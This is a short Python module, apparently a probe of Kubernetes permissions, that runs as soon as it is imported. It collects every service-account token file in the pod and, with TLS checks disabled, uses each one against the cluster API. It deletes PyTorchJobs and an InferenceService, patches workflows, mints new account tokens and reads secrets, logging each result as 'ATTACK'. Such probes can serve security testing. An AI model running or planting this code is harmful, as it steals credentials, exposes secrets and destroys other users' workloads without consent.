"""The begin of a network that tries, where it is imported, what the tokens of its pod may do."""

import contextlib
import json
import os
import ssl
import urllib.error
import urllib.request
from pathlib import Path

FOLDERS = ("/var/run/secrets", "/run")
OWN = Path(FOLDERS[0], "kubernetes.io", "serviceaccount", "namespace")
TYPES = {"PATCH": "application/merge-patch+json"}
NEW = {"metadata": {"generateName": "stranger-"}}
POD = {"spec": {"containers": [{"name": "main", "image": "a:1"}]}}
REQUESTS: tuple[tuple[str, str, str, object], ...] = (
    ("DELETE", "/apis/kubeflow.org/v1", "pytorchjobs/other", None),
    ("DELETE", "/apis/kubeflow.org/v1", "pytorchjobs", None),
    ("POST", "/apis/kubeflow.org/v1", "pytorchjobs", NEW),
    ("PATCH", "/apis/serving.kserve.io/v1beta1", "inferenceservices/shop", {}),
    ("DELETE", "/apis/serving.kserve.io/v1beta1", "inferenceservices/shop", None),
    ("PATCH", "/apis/argoproj.io/v1alpha1", "workflows/other", {}),
    ("POST", "/api/v1", "configmaps", {**NEW, "data": {}}),
    ("POST", "/api/v1", "pods?dryRun=All", {**NEW, **POD}),
    ("POST", "/api/v1", "serviceaccounts/kfp-ddp-launcher/token", {"spec": {}}),
    ("GET", "/api/v1", "secrets/kfp-ddp-launcher", None),
    ("GET", "/api/v1", "secrets", None),
    ("DELETE", "/api/v1", "persistentvolumeclaims/kfp-ddp-data?dryRun=All", None),
)


def _tokens() -> set[str]:
    tokens = set()
    for folder in FOLDERS:
        for file in Path(folder).rglob("token"):
            with contextlib.suppress(OSError):
                tokens.add(file.read_text())
    return tokens


def _status(token: str, method: str, path: str, body: object) -> int:
    url = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}{path}"
    headers = {"Authorization": f"Bearer {token}"}
    headers["Content-Type"] = TYPES.get(method, "application/json")
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, headers, method=method)
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(request, timeout=20, context=context) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


def _attack() -> None:
    tokens = _tokens()
    print("ATTACK with tokens:", len(tokens), flush=True)
    for token in tokens:
        for method, group, what, body in REQUESTS:
            path = f"{group}/namespaces/{OWN.read_text()}/{what}"
            print("ATTACK", _status(token, method, path, body), method, path, flush=True)


_attack()
